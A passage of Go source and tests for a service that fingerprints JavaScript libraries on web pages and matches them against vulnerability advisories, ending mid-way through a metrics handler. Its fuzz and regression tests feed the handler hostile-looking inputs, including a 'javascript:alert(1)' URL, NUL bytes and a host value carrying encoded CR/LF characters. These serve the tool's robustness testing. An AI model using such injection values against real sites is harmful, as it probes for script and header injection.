	if err := json.Unmarshal(rec.Body.Bytes(), &env); err != nil {
		t.Fatal(err)
	}
	if env.Policy.Overall != "fail" {
		t.Fatalf("overall = %q", env.Policy.Overall)
	}

	// JSON POSTs name it as the string "server".
	body, _ := json.Marshal(auditRequest{HTML: vulnerablePage, Host: "example.com", Policy: json.RawMessage(`"server"`)})
	rec2 := postAudit(s, string(body), "application/json")
	if rec2.Code != 200 {
		t.Fatalf("json status = %d", rec2.Code)
	}

	// The preloaded policy has per-rule verdict series, and both audits
	// above fed them.
	if len(s.met.policyRules) != 3 {
		t.Fatalf("policyRules = %d, want 3", len(s.met.policyRules))
	}
	if got := s.met.policyRules[0].fail.Load(); got != 2 {
		t.Errorf("stale-high fail count = %d, want 2", got)
	}
	mrec := httptest.NewRecorder()
	s.ServeHTTP(mrec, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	for _, want := range []string{
		`clientres_policy_verdicts_total{overall="fail"} 2`,
		`clientres_policy_rule_verdicts_total{rule="stale-high",outcome="fail"} 2`,
		`clientres_policy_rule_verdicts_total{rule="discontinued",outcome="pass"} 2`,
	} {
		if !strings.Contains(mrec.Body.String(), want) {
			t.Errorf("metrics missing %q", want)
		}
	}
}

func TestAuditPolicyErrors(t *testing.T) {
	cases := []struct {
		name string
		cfg  Config
		body string
		ct   string
		url  string
	}{
		{"inline bad source", Config{}, `{"html":"<html></html>","policy":"rules:\n  - when: nosuchfield"}`, "application/json", "/v1/audit"},
		{"server policy not loaded", Config{}, `{"html":"<html></html>","policy":"server"}`, "application/json", "/v1/audit"},
		{"unknown query selector", Config{}, `<html></html>`, "", "/v1/audit?policy=bogus"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := newTestServer(t, tc.cfg)
			req := httptest.NewRequest(http.MethodPost, tc.url, strings.NewReader(tc.body))
			if tc.ct != "" {
				req.Header.Set("Content-Type", tc.ct)
			}
			rec := httptest.NewRecorder()
			s.ServeHTTP(rec, req)
			if rec.Code != http.StatusBadRequest {
				t.Fatalf("status = %d, want 400 (body %s)", rec.Code, rec.Body)
			}
			if !strings.Contains(rec.Body.String(), "bad policy") {
				t.Errorf("body %q should name the policy problem", rec.Body)
			}
		})
	}
}

// batchLine is one parsed NDJSON response line.
type batchLine struct {
	Index   int             `json:"index"`
	Audit   json.RawMessage `json:"audit"`
	Policy  *policy.Verdict `json:"policy"`
	Error   string          `json:"error"`
	Shed    bool            `json:"shed"`
	Summary *BatchSummary   `json:"summary"`
}

func parseBatchLines(t *testing.T, body []byte) []batchLine {
	t.Helper()
	var out []batchLine
	for _, raw := range bytes.Split(bytes.TrimSpace(body), []byte("\n")) {
		var l batchLine
		l.Index = -1
		if err := json.Unmarshal(raw, &l); err != nil {
			t.Fatalf("bad NDJSON line %q: %v", raw, err)
		}
		out = append(out, l)
	}
	return out
}

func postBatch(s *Server, body string) *httptest.ResponseRecorder {
	req := httptest.NewRequest(http.MethodPost, "/v1/audit/batch", strings.NewReader(body))
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	return rec
}

func mustJSON(t *testing.T, v any) json.RawMessage {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestBatchEndpointReconciles(t *testing.T) {
	s := newTestServer(t, Config{})
	var in bytes.Buffer
	fmt.Fprintf(&in, `{"policy":%s}`+"\n", mustJSON(t, gateYAML))
	fmt.Fprintf(&in, `{"html":%s,"host":"example.com"}`+"\n", mustJSON(t, vulnerablePage))
	fmt.Fprintf(&in, `{"html":"<html></html>","host":"clean.test"}`+"\n")
	fmt.Fprintf(&in, "this is not json\n")
	fmt.Fprintf(&in, `{"url":"http://x.test/"}`+"\n")

	rec := postBatch(s, in.String())
	if rec.Code != 200 {
		t.Fatalf("status = %d, body %s", rec.Code, rec.Body)
	}
	if ct := rec.Header().Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("Content-Type = %q", ct)
	}
	lines := parseBatchLines(t, rec.Body.Bytes())
	if len(lines) != 5 {
		t.Fatalf("lines = %d, want 4 records + summary:\n%s", len(lines), rec.Body)
	}
	for i, l := range lines[:4] {
		if l.Index != i {
			t.Errorf("line %d has index %d — output must be in input order", i, l.Index)
		}
	}
	if lines[0].Policy == nil || lines[0].Policy.Overall != "fail" {
		t.Errorf("record 0 = %+v, want policy fail", lines[0])
	}
	var a0 AuditResponse
	if err := json.Unmarshal(lines[0].Audit, &a0); err != nil || a0.Host != "example.com" {
		t.Errorf("record 0 audit wrong: %v %+v", err, a0)
	}
	if lines[1].Policy == nil || lines[1].Policy.Overall != "pass" {
		t.Errorf("record 1 = %+v, want policy pass", lines[1])
	}
	if lines[2].Error != "invalid JSON record" {
		t.Errorf("record 2 = %+v", lines[2])
	}
	if !strings.Contains(lines[3].Error, "url records are not supported") {
		t.Errorf("record 3 = %+v", lines[3])
	}
	sum := lines[4].Summary
	if sum == nil {
		t.Fatal("missing summary line")
	}
	if sum.Records != 4 || sum.Completed != 2 || sum.Errors != 2 || sum.Shed != 0 || sum.Overall != "fail" {
		t.Errorf("summary = %+v", sum)
	}
	if s.met.batchStreams.Load() != 1 || s.met.batchRecords.Load() != 4 ||
		s.met.batchCompleted.Load() != 2 || s.met.batchErrors.Load() != 2 {
		t.Errorf("batch counters streams=%d records=%d completed=%d errors=%d",
			s.met.batchStreams.Load(), s.met.batchRecords.Load(),
			s.met.batchCompleted.Load(), s.met.batchErrors.Load())
	}
	if s.met.batchActive.Load() != 0 {
		t.Errorf("batchActive = %d after stream end, want 0", s.met.batchActive.Load())
	}
}

func TestBatchBadControlLinePolicy(t *testing.T) {
	s := newTestServer(t, Config{})
	rec := postBatch(s, `{"policy":"rules:\n  - when: nosuchfield"}`+"\n")
	lines := parseBatchLines(t, rec.Body.Bytes())
	if len(lines) != 1 || !strings.Contains(lines[0].Error, "bad policy") {
		t.Fatalf("lines = %+v, want one bad-policy error", lines)
	}
}

// TestBatchSharesCacheWithSingleAudits pins that batch and single audits
// read and write the same response cache: a batch miss banks the entry a
// later single audit hits.
func TestBatchSharesCacheWithSingleAudits(t *testing.T) {
	s := newTestServer(t, Config{})
	rec := postBatch(s, `{"html":"<html><p>x</p></html>","host":"example.com"}`+"\n")
	if rec.Code != 200 {
		t.Fatalf("batch status = %d", rec.Code)
	}
	if s.met.cacheMisses.Load() != 1 {
		t.Fatalf("cacheMisses = %d, want 1", s.met.cacheMisses.Load())
	}
	single := postAudit(s, "<html><p>x</p></html>", "")
	if got := single.Header().Get("X-Cache"); got != "hit" {
		t.Errorf("single after batch X-Cache = %q, want hit", got)
	}
	// And the reverse: a single-audit entry serves a batch record.
	rec2 := postBatch(s, `{"html":"<html><p>x</p></html>","host":"example.com"}`+"\n")
	lines := parseBatchLines(t, rec2.Body.Bytes())
	if lines[1].Summary.Completed != 1 {
		t.Fatalf("summary = %+v", lines[1].Summary)
	}
	if s.met.cacheHits.Load() != 2 {
		t.Errorf("cacheHits = %d, want 2", s.met.cacheHits.Load())
	}
}

// TestBatchShedsWhenQueueFull proves a batch record sheds through the
// same queue-full accounting as the single-audit 503 path, as an inline
// error line rather than a stream abort.
func TestBatchShedsWhenQueueFull(t *testing.T) {
	release := make(chan struct{})
	started := make(chan struct{}, 4)
	cfg := Config{Workers: 1, QueueDepth: 1, CacheEntries: -1}
	cfg.testHookAuditStart = func() { started <- struct{}{}; <-release }
	s := newTestServer(t, cfg)

	// Occupy the worker and fill the one-slot queue with single audits.
	singleDone := make(chan int, 2)
	for i := 0; i < 2; i++ {
		go func(i int) {
			rec := postAudit(s, fmt.Sprintf("<html>%d</html>", i), "")
			singleDone <- rec.Code
		}(i)
	}
	<-started
	deadline := time.Now().Add(5 * time.Second)
	for len(s.jobs) != 1 {
		if time.Now().After(deadline) {
			t.Fatal("queue never filled")
		}
		time.Sleep(time.Millisecond)
	}

	rec := postBatch(s, `{"html":"<html>overflow</html>"}`+"\n")
	lines := parseBatchLines(t, rec.Body.Bytes())
	if len(lines) != 2 || lines[0].Error != "audit queue full" || !lines[0].Shed {
		t.Fatalf("lines = %+v, want one shed error line", lines)
	}
	sum := lines[1].Summary
	if sum == nil || sum.Records != 1 || sum.Errors != 1 || sum.Shed != 1 || sum.Completed != 0 {
		t.Fatalf("summary = %+v", sum)
	}
	if s.met.shedQueue.Load() != 1 || s.met.batchShedRecords.Load() != 1 {
		t.Errorf("shedQueue = %d batchShed = %d, want 1/1",
			s.met.shedQueue.Load(), s.met.batchShedRecords.Load())
	}

	close(release)
	for i := 0; i < 2; i++ {
		if code := <-singleDone; code != 200 {
			t.Errorf("single audit status = %d", code)
		}
	}
}

// TestBatchStreamsRecordByRecord is the Flusher-passthrough proof: the
// first record's response line must arrive while the request body is
// still open (the client has not sent record two yet). If statusWriter
// hid http.Flusher, or the handler buffered until end of input, the read
// below would deadlock against the unfinished request body.
func TestBatchStreamsRecordByRecord(t *testing.T) {
	s := newTestServer(t, Config{})
	ts := httptest.NewServer(s)
	defer ts.Close()

	pr, pw := io.Pipe()
	req, err := http.NewRequest(http.MethodPost, ts.URL+"/v1/audit/batch", pr)
	if err != nil {
		t.Fatal(err)
	}
	resp, errc := make(chan *http.Response, 1), make(chan error, 1)
	go func() {
		r, err := http.DefaultClient.Do(req)
		if err != nil {
			errc <- err
			return
		}
		resp <- r
	}()

	if _, err := io.WriteString(pw, `{"html":"<html>first</html>"}`+"\n"); err != nil {
		t.Fatal(err)
	}
	var r *http.Response
	select {
	case r = <-resp:
	case err := <-errc:
		t.Fatal(err)
	case <-time.After(10 * time.Second):
		t.Fatal("no response headers while body open")
	}
	defer r.Body.Close()

	type lineOrErr struct {
		line string
		err  error
	}
	reads := make(chan lineOrErr, 4)
	br := bufio.NewReader(r.Body)
	go func() {
		for {
			l, err := br.ReadString('\n')
			reads <- lineOrErr{l, err}
			if err != nil {
				return
			}
		}
	}()

	select {
	case got := <-reads:
		if got.err != nil || !strings.Contains(got.line, `"index":0`) {
			t.Fatalf("first line = %+v", got)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("first record's line never arrived while record two was unsent")
	}

	if _, err := io.WriteString(pw, `{"html":"<html>second</html>"}`+"\n"); err != nil {
		t.Fatal(err)
	}
	_ = pw.Close()
	var rest []string
	for got := range reads {
		if got.err != nil {
			break
		}
		rest = append(rest, got.line)
	}
	if len(rest) != 2 || !strings.Contains(rest[0], `"index":1`) || !strings.Contains(rest[1], `"summary"`) {
		t.Fatalf("remaining lines = %q, want record 1 + summary", rest)
	}
}

// TestPolicyVerdictEquivalence is the acceptance bar: the same pages and
// policy produce byte-identical verdict JSON through POST /v1/audit,
// POST /v1/audit/batch, and the offline RunBatch used by cmd/analyze.
func TestPolicyVerdictEquivalence(t *testing.T) {
	pages := []struct{ html, host string }{
		{vulnerablePage, "example.com"},
		{`<html><script src="https://cdn.test/lib.js"></script></html>`, "shop.test"},
		{"<html></html>", "clean.test"},
	}
	s := newTestServer(t, Config{})

	// Online single audits, policy inline.
	var online [][]byte
	for _, pg := range pages {
		body, _ := json.Marshal(auditRequest{HTML: pg.html, Host: pg.host, Policy: mustJSON(t, gateYAML)})
		rec := postAudit(s, string(body), "application/json")
		if rec.Code != 200 {
			t.Fatalf("single status = %d", rec.Code)
		}
		var env struct {
			Policy json.RawMessage `json:"policy"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &env); err != nil {
			t.Fatal(err)
		}
		online = append(online, env.Policy)
	}

	// Online batch with the policy as the control line. Served from the
	// same server: records hit the cache the singles just filled, which
	// must not change the verdict bytes.
	var in bytes.Buffer
	fmt.Fprintf(&in, `{"policy":%s}`+"\n", mustJSON(t, gateYAML))
	for _, pg := range pages {
		fmt.Fprintf(&in, `{"html":%s,"host":%q}`+"\n", mustJSON(t, pg.html), pg.host)
	}
	rec := postBatch(s, in.String())
	if rec.Code != 200 {
		t.Fatalf("batch status = %d", rec.Code)
	}
	batchLines := parseBatchLines(t, rec.Body.Bytes())

	// Offline RunBatch on the identical NDJSON input and clock.
	var out bytes.Buffer
	sum, err := RunBatch(strings.NewReader(in.String()), &out, nil, fixedNow, 0)
	if err != nil {
		t.Fatal(err)
	}
	if sum.Records != 3 || sum.Completed != 3 || sum.Overall != "fail" {
		t.Fatalf("offline summary = %+v", sum)
	}
	offlineLines := parseBatchLines(t, out.Bytes())

	for i := range pages {
		var batchV, offlineV json.RawMessage
		var bl, ol struct {
			Policy json.RawMessage `json:"policy"`
		}
		if err := json.Unmarshal(batchLineRaw(t, rec.Body.Bytes(), i), &bl); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(batchLineRaw(t, out.Bytes(), i), &ol); err != nil {
			t.Fatal(err)
		}
		batchV, offlineV = bl.Policy, ol.Policy
		if !bytes.Equal(online[i], batchV) {
			t.Errorf("page %d: online verdict != batch verdict\n%s\n%s", i, online[i], batchV)
		}
		if !bytes.Equal(online[i], offlineV) {
			t.Errorf("page %d: online verdict != offline verdict\n%s\n%s", i, online[i], offlineV)
		}
		// The audit members must agree too, not just the verdicts.
		if !bytes.Equal(batchLines[i].Audit, offlineLines[i].Audit) {
			t.Errorf("page %d: batch audit != offline audit", i)
		}
	}
}

// batchLineRaw returns the i-th raw NDJSON line of a batch response body.
func batchLineRaw(t *testing.T, body []byte, i int) []byte {
	t.Helper()
	lines := bytes.Split(bytes.TrimSpace(body), []byte("\n"))
	if i >= len(lines) {
		t.Fatalf("no line %d in %d-line body", i, len(lines))
	}
	return lines[i]
}

func TestRunBatchOfflineErrors(t *testing.T) {
	var out bytes.Buffer
	in := "not json\n" + `{"url":"http://x.test/"}` + "\n" + `{"html":"<html></html>"}` + "\n"
	sum, err := RunBatch(strings.NewReader(in), &out, nil, fixedNow, 0)
	if err != nil {
		t.Fatal(err)
	}
	if sum.Records != 3 || sum.Completed != 1 || sum.Errors != 2 {
		t.Fatalf("summary = %+v", sum)
	}
	lines := parseBatchLines(t, out.Bytes())
	if lines[0].Error != "invalid JSON record" || lines[1].Error == "" || lines[2].Audit == nil {
		t.Fatalf("lines = %+v", lines)
	}
}

// TestStatusWriterForwardsFlush pins the interface plumbing directly:
// the instrumentation wrapper must not hide the underlying Flusher.
func TestStatusWriterForwardsFlush(t *testing.T) {
	rec := httptest.NewRecorder()
	sw := &statusWriter{ResponseWriter: rec}
	if _, ok := interface{}(sw).(http.Flusher); !ok {
		t.Fatal("statusWriter does not implement http.Flusher")
	}
	sw.Flush()
	if !rec.Flushed {
		t.Error("Flush did not reach the underlying writer")
	}
	if sw.Unwrap() != rec {
		t.Error("Unwrap must return the wrapped writer")
	}
}
