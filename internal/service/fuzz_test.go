package service

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	neturl "net/url"
	"strings"
	"testing"
	"time"
)

// FuzzAuditHandler drives arbitrary bodies through the complete HTTP
// handler — routing, limits, content negotiation, fingerprinting, advisory
// matching, caching, JSON encoding. The handler must never panic or hang,
// must answer every request with a known status, and every 200 must carry
// a decodable AuditResponse.
func FuzzAuditHandler(f *testing.F) {
	f.Add([]byte(vulnerablePage), "example.com", false)
	f.Add([]byte(`<script src="https://code.jquery.com/jquery-1.12.4.min.js"></script>`), "example.com", false)
	f.Add([]byte(`{"html": "<script src=\"/jquery-1.2.6.js\"></script>", "host": "h"}`), "", true)
	f.Add([]byte(`{"url": "http://x.test/"}`), "", true)
	f.Add([]byte(`{"url": "javascript:alert(1)"}`), "", true)
	f.Add([]byte("<script src=\"http://a/\x00b.js\"></script>"), "\x00", false)
	f.Add([]byte("<object classid=\"clsid:D27CDB6E\"><param name=\"movie\" value=\"x.swf\">"), "h", false)
	f.Add([]byte(strings.Repeat("<script src=a@1.2.3/b.js>", 50)), "h", false)
	f.Add([]byte(`<meta name=generator content="WordPress 99999999999999999999.1">`), "h", false)
	f.Add([]byte{0xff, 0xfe, 0x00}, "::", false)

	s := New(Config{
		Workers: 2, QueueDepth: 256, CacheEntries: 64,
		MaxBodyBytes: 1 << 20,
		Now:          func() time.Time { return fixedNow },
	})
	f.Cleanup(s.Close)

	f.Fuzz(func(t *testing.T, body []byte, host string, asJSON bool) {
		target := "/v1/audit"
		if host != "" {
			target += "?host=" + neturl.QueryEscape(host)
		}
		req := httptest.NewRequest(http.MethodPost, target, strings.NewReader(string(body)))
		if asJSON {
			req.Header.Set("Content-Type", "application/json")
		}
		rec := httptest.NewRecorder()
		done := make(chan struct{})
		go func() {
			defer close(done)
			s.ServeHTTP(rec, req)
		}()
		select {
		case <-done:
		case <-time.After(30 * time.Second):
			t.Fatalf("audit handler hung on %d-byte body (json=%v)", len(body), asJSON)
		}
		switch rec.Code {
		case http.StatusOK:
			var resp AuditResponse
			if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
				t.Fatalf("200 with undecodable body: %v\n%q", err, rec.Body.Bytes())
			}
		case http.StatusBadRequest, http.StatusRequestEntityTooLarge,
			http.StatusNotImplemented, http.StatusBadGateway:
			// Expected refusals for adversarial input.
		default:
			t.Fatalf("unexpected status %d (body %q)", rec.Code, rec.Body.Bytes())
		}
	})
}

// Regression tests pinning the adversarial-input hardening the fuzz target
// exercises (each was a refusal class that must stay a refusal, not become
// a panic or a 500).

func TestAuditHandlerNULBytes(t *testing.T) {
	s := newTestServer(t, Config{})
	rec := postAudit(s, "<script src=\"http://a/\x00b.js\"></script>\x00", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("NUL-laden HTML status = %d, want 200 (it is still HTML)", rec.Code)
	}
	var resp AuditResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatalf("NUL bytes broke JSON encoding: %v", err)
	}
}

func TestAuditHandlerHugeVersionNumbers(t *testing.T) {
	s := newTestServer(t, Config{})
	page := `<script src="/jquery-99999999999999999999999999.9.js"></script>
<meta name="generator" content="WordPress 340282366920938463463374607431768211456.0">`
	rec := postAudit(s, page, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("huge versions status = %d, want 200", rec.Code)
	}
}

func TestAuditHandlerDeeplyRepeatedTags(t *testing.T) {
	s := newTestServer(t, Config{MaxBodyBytes: 1 << 20})
	var b strings.Builder
	for i := 0; i < 5000; i++ {
		fmt.Fprintf(&b, `<script src="https://cdn.test/lib%d@1.%d.0/lib%d.min.js"></script>`, i, i, i)
	}
	rec := postAudit(s, b.String(), "")
	if rec.Code != http.StatusOK {
		t.Fatalf("many-script page status = %d, want 200", rec.Code)
	}
	var resp AuditResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatal(err)
	}
	if resp.ScriptCount != 5000 {
		t.Fatalf("script count = %d, want 5000", resp.ScriptCount)
	}
}

func TestAuditHandlerInvalidHostQuery(t *testing.T) {
	s := newTestServer(t, Config{})
	req := httptest.NewRequest(http.MethodPost, "/v1/audit?host=%00%0a%0d", strings.NewReader("<html></html>"))
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	if rec.Code != http.StatusOK {
		t.Fatalf("weird host status = %d, want 200", rec.Code)
	}
}
