package service

import (
	"time"

	"clientres/internal/fingerprint"
	"clientres/internal/policy"
	"clientres/internal/vulndb"
)

// AuditLibrary is one detected library inclusion in an audit response.
type AuditLibrary struct {
	Slug string `json:"slug"`
	// Known marks slugs from the study's top-15 table; only known libraries
	// can match advisories.
	Known   bool   `json:"known"`
	Version string `json:"version,omitempty"`
	// External marks inclusion from another host; Host is that host.
	External bool   `json:"external,omitempty"`
	Host     string `json:"host,omitempty"`
	// SRI marks an integrity attribute; Crossorigin is the attribute value
	// ("" when absent). An external inclusion without SRI is the paper's
	// 99.7%-uncovered hygiene finding.
	SRI         bool   `json:"sri,omitempty"`
	Crossorigin string `json:"crossorigin,omitempty"`
}

// AuditFinding is one advisory matching a detected library version.
type AuditFinding struct {
	Library  string `json:"library"`
	Version  string `json:"version"`
	Advisory string `json:"advisory"`
	Attack   string `json:"attack"`
	// Severity is the attack class's coarse tier ("high"/"medium") — the
	// field policies like "fail if any HIGH CVE older than 90 days" gate on.
	Severity string `json:"severity"`
	// Disclosed is the advisory's public disclosure date (YYYY-MM-DD).
	Disclosed string `json:"disclosed"`
	// FixedIn is the patched version; empty when no fix exists.
	FixedIn string `json:"fixed_in,omitempty"`
	// PatchAvailableDays counts whole days between the patch release and
	// the audit — how long the site has had a fix available, the online
	// analogue of the paper's window-of-vulnerability. 0 when unpatched.
	PatchAvailableDays int `json:"patch_available_days,omitempty"`
	// PerCVEOnly marks matches that exist only under the CVE-disclosed
	// range: the paper's PoC-validated range says NOT vulnerable
	// (an overstated CVE — Section 6.4).
	PerCVEOnly bool `json:"per_cve_only,omitempty"`
	// Conditional marks advisories exploitable only under specific site
	// behavior (Section 9).
	Conditional bool `json:"conditional,omitempty"`
}

// AuditResponse is the JSON body of a successful POST /v1/audit. For a
// given (page content, host, audit day) it is deterministic, which is what
// makes responses cacheable and replayable byte-identically.
type AuditResponse struct {
	Host      string         `json:"host"`
	Libraries []AuditLibrary `json:"libraries"`
	Findings  []AuditFinding `json:"findings"`
	// VulnerableTVV reports ≥1 finding under the PoC-validated ranges;
	// VulnerableCVE under the (possibly inaccurate) CVE-disclosed ranges.
	VulnerableTVV bool `json:"vulnerable_tvv"`
	VulnerableCVE bool `json:"vulnerable_cve"`
	// MissingSRI counts external inclusions without an integrity attribute.
	MissingSRI    int    `json:"missing_sri"`
	UsesFlash     bool   `json:"uses_flash,omitempty"`
	InsecureFlash bool   `json:"insecure_flash,omitempty"`
	WordPress     string `json:"wordpress,omitempty"`
	ScriptCount   int    `json:"script_count"`
}

// Audit fingerprints one HTML document served from host and matches the
// detected versions against the advisory database, as of now (which only
// feeds PatchAvailableDays — detection and matching are time-independent).
func Audit(html, host string, now time.Time) AuditResponse {
	det := fingerprint.Page(html, host)
	resp := AuditResponse{
		Host:        host,
		Libraries:   []AuditLibrary{},
		Findings:    []AuditFinding{},
		ScriptCount: det.ScriptCount,
	}
	if !det.WordPress.IsZero() {
		resp.WordPress = det.WordPress.String()
	}
	for _, hit := range det.Libraries {
		lib := AuditLibrary{
			Slug: hit.Slug, Known: hit.Known,
			External: hit.External, Host: hit.Host,
			SRI: hit.SRI, Crossorigin: hit.Crossorigin,
		}
		if !hit.Version.IsZero() {
			lib.Version = hit.Version.String()
		}
		resp.Libraries = append(resp.Libraries, lib)
		if hit.External && !hit.SRI {
			resp.MissingSRI++
		}
		if !hit.Known || hit.Version.IsZero() {
			continue
		}
		for _, adv := range vulndb.AdvisoriesFor(hit.Slug) {
			inTVV := adv.EffectiveTrueRange().Contains(hit.Version)
			inCVE := adv.CVERange.Contains(hit.Version)
			if !inTVV && !inCVE {
				continue
			}
			f := AuditFinding{
				Library: hit.Slug, Version: hit.Version.String(),
				Advisory: adv.ID, Attack: string(adv.Attack),
				Severity:    adv.Attack.Severity(),
				Disclosed:   adv.Disclosed.Format("2006-01-02"),
				PerCVEOnly:  inCVE && !inTVV,
				Conditional: adv.Conditional,
			}
			if !adv.Patched.IsZero() {
				f.FixedIn = adv.Patched.String()
			}
			if !adv.PatchDate.IsZero() {
				if days := int(now.Sub(adv.PatchDate).Hours() / 24); days > 0 {
					f.PatchAvailableDays = days
				}
			}
			if inTVV {
				resp.VulnerableTVV = true
			}
			if inCVE {
				resp.VulnerableCVE = true
			}
			resp.Findings = append(resp.Findings, f)
		}
	}
	if det.Flash != nil {
		resp.UsesFlash = true
		resp.InsecureFlash = det.Flash.Always
	}
	return resp
}

// PolicyDoc converts an audit response into the policy engine's document
// model, as of the same audit clock. Discontinued status joins here from
// the library catalog (it is a property of the library, not the page).
// Every serving path — online, batch, offline — goes through this one
// conversion, which is what makes policy verdicts path-independent.
func (r *AuditResponse) PolicyDoc(now time.Time) *policy.Doc {
	doc := &policy.Doc{
		Host:          r.Host,
		Libraries:     make([]policy.Library, 0, len(r.Libraries)),
		Findings:      make([]policy.Finding, 0, len(r.Findings)),
		VulnerableTVV: r.VulnerableTVV,
		VulnerableCVE: r.VulnerableCVE,
		MissingSRI:    r.MissingSRI,
		ScriptCount:   r.ScriptCount,
		UsesFlash:     r.UsesFlash,
		InsecureFlash: r.InsecureFlash,
		WordPress:     r.WordPress,
		Now:           now,
	}
	for _, l := range r.Libraries {
		pl := policy.Library{
			Slug: l.Slug, Known: l.Known, Version: l.Version,
			External: l.External, Host: l.Host,
			SRI: l.SRI, Crossorigin: l.Crossorigin,
		}
		if lib, ok := vulndb.LibraryBySlug(l.Slug); ok {
			pl.Discontinued = lib.Discontinued
		}
		doc.Libraries = append(doc.Libraries, pl)
	}
	for _, f := range r.Findings {
		pf := policy.Finding{
			Library: f.Library, Version: f.Version,
			Advisory: f.Advisory, Attack: f.Attack, Severity: f.Severity,
			FixedIn:            f.FixedIn,
			PatchAvailableDays: f.PatchAvailableDays,
			PerCVEOnly:         f.PerCVEOnly,
			Conditional:        f.Conditional,
		}
		if t, err := time.Parse("2006-01-02", f.Disclosed); err == nil {
			pf.Disclosed = t
		}
		doc.Findings = append(doc.Findings, pf)
	}
	return doc
}
