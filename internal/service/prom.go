package service

import (
	"bytes"
	"fmt"
	"net/http"

	"clientres/internal/metrics"
)

// handleMetrics renders every counter and latency quantile in Prometheus
// text exposition format, handwritten — the repo takes no dependencies,
// and the format is a few fmt.Fprintf calls. Series are emitted in a fixed
// order so scrapes diff cleanly.
func (s *Server) handleMetrics(w http.ResponseWriter, _ *http.Request) {
	var b bytes.Buffer

	fmt.Fprintf(&b, "# HELP clientres_http_requests_total HTTP requests by endpoint and status class.\n")
	fmt.Fprintf(&b, "# TYPE clientres_http_requests_total counter\n")
	for _, em := range s.met.endpoints {
		fmt.Fprintf(&b, "clientres_http_requests_total{endpoint=%q} %d\n", em.name, em.total.Load())
		for cls := 1; cls <= 5; cls++ {
			if n := em.codes[cls].Load(); n > 0 {
				fmt.Fprintf(&b, "clientres_http_responses_total{endpoint=%q,code=\"%dxx\"} %d\n", em.name, cls, n)
			}
		}
	}

	fmt.Fprintf(&b, "# HELP clientres_http_request_duration_seconds Request latency quantiles (power-of-two microsecond buckets).\n")
	fmt.Fprintf(&b, "# TYPE clientres_http_request_duration_seconds summary\n")
	for _, em := range s.met.endpoints {
		if em.lat.Total() == 0 {
			continue
		}
		for _, q := range []struct {
			label string
			q     float64
		}{{"0.5", 0.50}, {"0.99", 0.99}} {
			fmt.Fprintf(&b, "clientres_http_request_duration_seconds{endpoint=%q,quantile=%q} %g\n",
				em.name, q.label, em.lat.Quantile(q.q).Seconds())
		}
		fmt.Fprintf(&b, "clientres_http_request_duration_seconds_count{endpoint=%q} %d\n", em.name, em.lat.Total())
	}

	// Cumulative le-bucket export of the audit latency histogram, for
	// scrapers that aggregate their own quantiles.
	audit := s.met.endpoint("audit")
	if audit.lat.Total() > 0 {
		fmt.Fprintf(&b, "# TYPE clientres_audit_duration_us histogram\n")
		var cum int64
		for i, n := range audit.lat.Buckets() {
			cum += n
			if n == 0 {
				continue
			}
			fmt.Fprintf(&b, "clientres_audit_duration_us_bucket{le=\"%d\"} %d\n",
				metrics.BucketUpperBound(i).Microseconds(), cum)
		}
		fmt.Fprintf(&b, "clientres_audit_duration_us_bucket{le=\"+Inf\"} %d\n", cum)
	}

	fmt.Fprintf(&b, "# HELP clientres_audit_cache Response-cache traffic.\n")
	fmt.Fprintf(&b, "# TYPE clientres_audit_cache_hits_total counter\n")
	fmt.Fprintf(&b, "clientres_audit_cache_hits_total %d\n", s.met.cacheHits.Load())
	fmt.Fprintf(&b, "# TYPE clientres_audit_cache_misses_total counter\n")
	fmt.Fprintf(&b, "clientres_audit_cache_misses_total %d\n", s.met.cacheMisses.Load())
	fmt.Fprintf(&b, "# TYPE clientres_audit_cache_evictions_total counter\n")
	fmt.Fprintf(&b, "clientres_audit_cache_evictions_total %d\n", s.met.cacheEvictions.Load())
	if s.cache != nil {
		fmt.Fprintf(&b, "# TYPE clientres_audit_cache_entries gauge\n")
		fmt.Fprintf(&b, "clientres_audit_cache_entries %d\n", s.cache.len())
	}

	fmt.Fprintf(&b, "# HELP clientres_audit_shed_total Audits refused by backpressure, by reason.\n")
	fmt.Fprintf(&b, "# TYPE clientres_audit_shed_total counter\n")
	fmt.Fprintf(&b, "clientres_audit_shed_total{reason=\"queue_full\"} %d\n", s.met.shedQueue.Load())
	fmt.Fprintf(&b, "clientres_audit_shed_total{reason=\"rate_limited\"} %d\n", s.met.shedRate.Load())

	fmt.Fprintf(&b, "# TYPE clientres_audit_fetches_total counter\n")
	fmt.Fprintf(&b, "clientres_audit_fetches_total %d\n", s.met.fetches.Load())
	fmt.Fprintf(&b, "# TYPE clientres_audit_fetch_failures_total counter\n")
	fmt.Fprintf(&b, "clientres_audit_fetch_failures_total %d\n", s.met.fetchFailures.Load())

	fmt.Fprintf(&b, "# TYPE clientres_audit_queue gauge\n")
	fmt.Fprintf(&b, "clientres_audit_queue_depth %d\n", len(s.jobs))
	fmt.Fprintf(&b, "clientres_audit_queue_capacity %d\n", cap(s.jobs))

	fmt.Fprintf(&b, "# HELP clientres_policy_verdicts_total Policy evaluations by overall verdict (all policies).\n")
	fmt.Fprintf(&b, "# TYPE clientres_policy_verdicts_total counter\n")
	fmt.Fprintf(&b, "clientres_policy_verdicts_total{overall=\"pass\"} %d\n", s.met.policyPass.Load())
	fmt.Fprintf(&b, "clientres_policy_verdicts_total{overall=\"warn\"} %d\n", s.met.policyWarn.Load())
	fmt.Fprintf(&b, "clientres_policy_verdicts_total{overall=\"fail\"} %d\n", s.met.policyFail.Load())
	if len(s.met.policyRules) > 0 {
		// Per-rule series exist only for the server-preloaded policy:
		// its rule names are operator-chosen and fixed at startup, so the
		// label cardinality is bounded. Inline request policies only feed
		// the aggregate counters above.
